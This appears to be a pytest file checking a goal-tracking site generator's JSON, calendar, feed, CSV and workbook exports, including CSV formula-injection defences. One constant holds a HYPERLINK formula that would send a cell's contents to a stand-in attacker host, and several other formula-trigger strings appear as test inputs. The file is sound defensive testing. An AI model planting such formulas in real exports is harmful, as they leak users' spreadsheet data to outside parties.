"""What other programs take away: read back by other libraries than those that wrote it, and never run."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import feedparser
import icalendar
import jsonschema
import openpyxl
import pytest

from smartdocs.render.data.calendar import write_calendar
from smartdocs.render.data.csv_file import defuse, write_csv
from smartdocs.render.data.feed import write_feed
from smartdocs.render.data.plan_json import write_plan
from smartdocs.render.data.plan_schema import make_plan_schema
from smartdocs.render.data.sheets import SHEETS
from smartdocs.render.data.workbook import write_workbook
from smartdocs.render.site_view import SiteView
from tests.sites import make_view, render

DAY = date(2026, 8, 14)
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
FILES = {
    "smartdocs.yml": "site: {title: Fennlark, base_url: https://goals.example.com/plan/}\n",
    "content/people/ana.md": "---\ntitle: Ana Hill\n---\n",
    "content/people/ben.md": "---\ntitle: Ben Oak\n---\n",
    "content/evidence/july.csv": "date,meetings\n2026-07-31,12\n",
    "content/goals/meetings.md": """\
---
title: Book 48 qualified meetings with clinics, “Söhne & Töchter” <first>
owner: ana
period: 2026-Q3
measurable: {metric: meetings, baseline: 0, target: 48 meetings}
milestones:
  - {id: july, title: 12 held in July, due: 2026-07-31, done: 2026-07-30, evidence: /evidence/july.csv}
  - {id: august, title: 30 held by August, due: 2026-08-31, owner: ben}
check_ins:
  - {date: 2026-07-30, value: 12, by: ana, note: First sequence live}
  - {date: 2026-08-12, value: 20, by: ben, note: 'A line,
      and "another"'}
---
""",
    "content/goals/formula.md": f"""\
---
title: '{HOSTILE}'
owner: ben
period: 2026-Q3
specific: "+1 for everybody"
check_ins:
  - {{date: 2026-08-01, note: '@SUM(A1:A9)'}}
---
""",
}


@pytest.fixture(scope="module")
def view() -> SiteView:
    return make_view(FILES, DAY)


def rows(view: SiteView, name: str) -> list[dict[str, str]]:
    (sheet,) = [sheet for sheet in SHEETS if sheet.name == name]
    text = write_csv(sheet.columns, sheet.rows(view)).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_document_has_the_form_that_is_published_with_it(view: SiteView) -> None:
    schema, plan = make_plan_schema(), json.loads(write_plan(view))
    jsonschema.Draft202012Validator.check_schema(schema)
    checker = jsonschema.Draft202012Validator.FORMAT_CHECKER
    jsonschema.Draft202012Validator(schema, format_checker=checker).validate(plan)
    (goal,) = [item for item in plan["goals"] if item["id"] == "meetings"]
    assert goal["measurable"][0]["target"] == {"value": "48", "unit": "meetings", "text": "48 meetings"}
    assert goal["milestones"][0]["done"] == "2026-07-30"
    assert goal["assessment"]["progress"] == "0.416667"
    first = goal["assessment"]["metrics"][0]["readings"][0]
    assert first == {"day": "2026-07-30", "value": "12", "file": "content/goals/meetings.md", "line": 10}
    assert plan["exhibits"][0]["cited_by"] == [{"goal": "meetings", "milestone": "july"}]


@pytest.mark.parametrize(
    "change",
    [
        lambda plan: plan["goals"][0].pop("id"),
        lambda plan: plan["goals"][0].update(budget="3"),
        lambda plan: plan["goals"][0]["assessment"].update(progress=0.4),
        lambda plan: plan.update(as_of="14.08.2026"),
    ],
)
def test_a_document_of_another_form_is_refused_by_its_schema(view: SiteView, change: object) -> None:
    plan = json.loads(write_plan(view))
    change(plan)  # type: ignore[operator]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft202012Validator(make_plan_schema()).validate(plan)


def test_a_calendar_is_read_back_with_what_is_still_to_come(view: SiteView) -> None:
    calendar = icalendar.Calendar.from_ical(write_calendar(view))
    events = {
        str(event["uid"]): (event.decoded("dtstart"), str(event["summary"]))
        for event in calendar.walk("VEVENT")
    }
    title = "Book 48 qualified meetings with clinics, “Söhne & Töchter” <first>"
    assert events["goal-meetings@goals.example.com/plan"] == (date(2026, 9, 30), f"Due: {title}")
    assert events["milestone-meetings-august@goals.example.com/plan"][0] == date(2026, 8, 31)
    assert "milestone-meetings-july@goals.example.com/plan" not in events
    (event,) = [item for item in calendar.walk("VEVENT") if item["uid"].startswith("goal-meetings@")]
    assert str(event["url"]) == "https://goals.example.com/plan/goals/meetings.html"


def test_a_persons_calendar_has_what_that_person_owes(view: SiteView) -> None:
    calendar = icalendar.Calendar.from_ical(write_calendar(view, "ben"))
    keys = {str(event["uid"]).split("@")[0] for event in calendar.walk("VEVENT")}
    assert {"milestone-meetings-august", "goal-formula"} <= keys
    assert "goal-meetings" not in keys


def test_lines_of_a_calendar_are_as_long_as_programs_take_them(view: SiteView) -> None:
    assert max(map(len, write_calendar(view).split(b"\r\n"))) <= 75


def test_a_feed_is_read_back_newest_first(view: SiteView) -> None:
    feed = feedparser.parse(write_feed(view))
    assert not feed.bozo
    assert (feed.feed.title, feed.feed.id) == ("Fennlark", "https://goals.example.com/plan/")
    assert [(entry.updated[:10], entry.author) for entry in feed.entries] == [
        ("2026-08-12", "Ben Oak"),
        ("2026-08-01", "Ben Oak"),
        ("2026-07-30", "Ana Hill"),
    ]
    assert feed.entries[2].title.endswith(": 12")
    assert feed.entries[2].link == "https://goals.example.com/plan/goals/meetings.html"
    assert len({entry.id for entry in feed.entries}) == 3


def test_what_is_dated_ahead_is_no_news() -> None:
    feed = feedparser.parse(write_feed(make_view(FILES, date(2026, 8, 11))))
    assert [entry.updated[:10] for entry in feed.entries] == ["2026-08-01", "2026-07-30"]


def test_without_an_address_links_lead_from_the_feed_to_the_page() -> None:
    files = {**FILES, "smartdocs.yml": "site: {title: Fennlark}\n"}
    text = write_feed(make_view(files, DAY)).decode()
    assert 'href="../goals/meetings.html"' in text and "tag:smartdocs.invalid,2026:" in text


def test_tables_hold_exact_numbers_days_and_texts(view: SiteView) -> None:
    (goal,) = [row for row in rows(view, "goals") if row["goal"] == "meetings"]
    assert (goal["owner"], goal["due"], goal["progress"]) == ("Ana Hill", "2026-09-30", "0.416667")
    (july, august) = rows(view, "milestones")
    assert (july["done"], july["done on"], july["exhibits"]) == ("yes", "2026-07-30", "E-1")
    assert (august["done"], august["owner"]) == ("no", "Ben Oak")
    notes = [row["note"] for row in rows(view, "check-ins") if row["goal"] == "meetings"]
    assert notes == ["First sequence live", 'A line, and "another"']
    assert [row["standing figure"] for row in rows(view, "readings")] == ["12", "20"]
    assert rows(view, "exhibits")[0]["address"].startswith("exhibits/")


@pytest.mark.parametrize("text", [HOSTILE, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\uff1d1"])
def test_a_text_that_would_run_is_defused(text: str) -> None:
    assert defuse(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Book 20 meetings", "a=b", "1+1", "'quoted", ""])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert defuse(text) == text


def test_no_cell_of_a_table_begins_a_formula(view: SiteView) -> None:
    for sheet in SHEETS:
        for row in csv.reader(io.StringIO(write_csv(sheet.columns, sheet.rows(view)).decode(), newline="")):
            assert not [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_a_workbook_is_read_by_another_library_and_holds_no_formula(view: SiteView) -> None:
    book = openpyxl.load_workbook(io.BytesIO(write_workbook(view)))
    assert book.sheetnames == [sheet.name for sheet in SHEETS]
    cells = [cell for page in book for row in page.iter_rows() for cell in row if cell.value is not None]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
    assert HOSTILE in [cell.value for cell in cells if cell.data_type == "s"]
    goals = {row[0].value: row for row in book["goals"].iter_rows(min_row=2)}
    assert goals["meetings"][7].value.date() == date(2026, 9, 30)
    assert goals["meetings"][10].value == pytest.approx(0.416667)


@pytest.mark.parametrize("write", [write_plan, write_calendar, write_feed, write_workbook])
def test_the_same_plan_gives_the_same_bytes(write: object) -> None:
    assert write(make_view(FILES, DAY)) == write(make_view(FILES, DAY))  # type: ignore[operator]


def test_the_page_lists_every_file_and_every_page_leads_there(view: SiteView) -> None:
    pages = render(FILES, DAY)
    page = pages["data/index.html"]
    for name in (
        "plan.json",
        "plan.schema.json",
        "plan.xlsx",
        "calendar.ics",
        "feed.xml",
        "calendar-ben.ics",
    ):
        assert f'href="../data/{name}"' in page
    for sheet in SHEETS:
        assert f'href="../data/{sheet.name}.csv"' in page
    assert 'href="../data/index.html"' in pages["goals/meetings.html"]
